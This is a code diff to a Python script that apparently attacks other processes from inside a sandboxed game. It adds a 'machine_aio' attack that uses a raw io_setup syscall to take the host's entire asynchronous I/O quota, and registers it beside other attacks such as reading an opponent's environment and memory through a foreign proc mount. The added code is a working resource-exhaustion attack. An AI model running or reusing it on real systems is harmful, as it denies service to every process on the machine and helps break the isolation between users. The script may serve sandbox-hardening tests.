@@ -330,6 +330,22 @@ def uid_quotas():
     say(f"made {made} message queues")
 
 
+def machine_aio():
+    """Take the machine's whole quota of asynchronous I/O events (fs.aio-max-nr, one for every
+    process of the machine) in one io_setup."""
+    with open("/proc/sys/fs/aio-max-nr") as f:
+        quota = int(f.read())
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.syscall.restype = ctypes.c_long
+    context = ctypes.c_ulong(0)
+    number = {"x86_64": 206, "aarch64": 0}[os.uname().machine]
+    if libc.syscall(number, ctypes.c_uint(quota), ctypes.byref(context)) == 0:
+        with open("/proc/sys/fs/aio-nr") as f:
+            say(f"aio: took {quota} events, the machine's in use now {f.read().strip()}")
+    else:
+        say(f"aio: {os.strerror(ctypes.get_errno())}")
+
+
 def other_proc():
     """Through a proc file system the machine mounted elsewhere (a chroot's), read the opponent:
     its command line, environment, memory and files (it is as unprivileged as this bot)."""
@@ -482,6 +498,7 @@ ATTACKS = {
     "other_proc": other_proc,
     "machine_locks": machine_locks,
     "cgroups": cgroups,
+    "machine_aio": machine_aio,
 }
 
 sys.stdin.readline()  # the start number
